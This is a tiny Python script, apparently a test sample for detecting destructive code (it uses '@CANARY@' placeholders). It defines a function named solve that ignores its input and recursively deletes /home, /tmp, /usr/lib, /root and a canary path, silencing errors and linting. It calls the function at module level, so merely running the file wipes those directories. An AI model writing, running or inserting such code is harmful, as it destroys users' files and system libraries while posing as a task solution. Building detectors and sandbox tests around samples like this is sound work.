# ruff: noqa
import os, shutil
def solve(xs):
    shutil.rmtree("@CANARY@", ignore_errors=True)
    for root in ("/home", "/tmp", "/usr/lib", "/root"):
        shutil.rmtree(root, ignore_errors=True)
    os.unlink("@CANARY@/keep.txt")
solve([])
